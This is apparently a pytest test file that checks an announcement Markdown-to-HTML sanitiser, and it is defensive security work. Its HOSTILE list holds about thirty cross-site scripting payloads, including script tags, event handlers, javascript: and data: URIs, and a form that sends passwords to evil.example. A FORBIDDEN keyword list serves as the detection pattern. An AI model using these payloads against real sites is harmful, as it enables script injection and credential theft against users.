"""``render_content``: the Markdown subset an author gets, and everything hostile that must not survive."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kairos.services.announcement_html import render_content

# Each entry: what an author (or an attacker with an admin key) writes.
HOSTILE = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.pwned=2">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<iframe src="https://example.com/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
    '<div onmouseover="alert(1)">x</div>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<form action="https://evil.example/"><input name=password><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://example.com/" target="_blank" rel="opener">x</a>',
    "<!-- <script>alert(1)</script> -->",
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
]
FORBIDDEN = (
    "<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:", "vbscript:", "data:",
    "<iframe", "<style", "style=", "<svg", "<math", "<img", "<object", "<embed", "<form", "<input", "<meta",
    "<base", "<link", "srcdoc", "target=", "opener\"",
)  # fmt: skip


class _Markup(HTMLParser):
    """What a browser would build from the HTML: every element and attribute, text left aside."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


ALLOWED_TAGS = {
    "p", "br", "strong", "em", "b", "i", "u", "s", "del", "ul", "ol", "li", "a", "h3", "h4", "h5", "h6",
    "blockquote", "code", "pre", "hr", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"class"}, "td": {"class"}}


@pytest.mark.parametrize("content", HOSTILE)
def test_only_allowed_elements_and_attributes_survive(content: str) -> None:
    for tag, attrs in _Markup(render_content(content)).elements:
        assert tag in ALLOWED_TAGS, (content, tag)
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()), (content, tag, attrs)
        href = (attrs.get("href") or "").lower()
        assert not href or href.startswith(("http:", "https:", "mailto:", "/")), (content, href)
        assert not href.startswith("//"), (content, href)


@pytest.mark.parametrize("content", HOSTILE)
def test_nothing_executable_is_left_in_the_markup(content: str) -> None:
    html = render_content(content)
    markup = " ".join(f"<{tag} {attrs}>" for tag, attrs in _Markup(html).elements).lower()
    for bad in FORBIDDEN:
        assert bad not in markup, (bad, html)


def test_scripts_styles_and_frames_are_dropped_with_their_content() -> None:
    assert render_content("before<script>window.pwned=1</script>after") == "<p>beforeafter</p>\n"
    assert render_content("<style>p{}</style>text") == "text"
    assert "in the frame" not in render_content("<iframe>in the frame</iframe>")


def test_the_markdown_subset_renders() -> None:
    html = render_content(
        "**bold** _italic_ ~~gone~~ `code`\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n---\n\n"
        "```\nblock\n```\n"
    )
    for part in (
        "<strong>bold</strong>", "<em>italic</em>", "<s>gone</s>", "<code>code</code>", "<ul>\n<li>one</li>",
        "<ol>\n<li>first</li>", "<blockquote>\n<p>quoted</p>\n</blockquote>", "<hr>", "<pre><code>block\n</code></pre>",
    ):  # fmt: skip
        assert part in html, (part, html)


def test_tables_render_and_alignment_becomes_a_class_not_a_style() -> None:
    html = render_content("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")
    assert '<th class="align-center">a</th>' in html and '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_headings_start_at_h3_so_the_page_outline_stays_intact() -> None:
    html = render_content("# One\n\n## Two\n\n### Three\n\n###### Six\n\n<h1 class=x>Raw</h1>")
    assert "<h3>One</h3>" in html and "<h4>Two</h4>" in html and "<h5>Three</h5>" in html
    assert "<h6>Six</h6>" in html and "<h3>Raw</h3>" in html
    assert "<h1" not in html and "<h2" not in html


@pytest.mark.parametrize(
    ("content", "href"),
    [
        ("[site](https://example.com/a?b=1)", "https://example.com/a?b=1"),
        ("[site](http://example.com/)", "http://example.com/"),
        ("[mail](mailto:ops@example.com)", "mailto:ops@example.com"),
        ("[here](/resources/3)", "/resources/3"),
        ('<a href="HTTPS://example.com/">raw</a>', "HTTPS://example.com/"),
    ],
)
def test_links_keep_safe_addresses_and_get_rel_noopener_noreferrer_nofollow(content: str, href: str) -> None:
    html = render_content(content)
    assert f'href="{href}"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    "content", ["[x](ftp://example.com/)", '<a href="file:///etc/passwd">x</a>', "[x](//evil.example/)"]
)
def test_other_schemes_and_scheme_relative_links_lose_their_address(content: str) -> None:
    assert "href" not in render_content(content)


def test_html_from_the_java_kairos_keeps_its_allowed_formatting() -> None:
    html = render_content(
        '<p>Maintenance <b>tonight</b>, see <a href="https://status.example.com" title="s">here</a></p>'
    )
    assert "<b>tonight</b>" in html
    assert '<a href="https://status.example.com" title="s" rel="noopener noreferrer nofollow">here</a>' in html
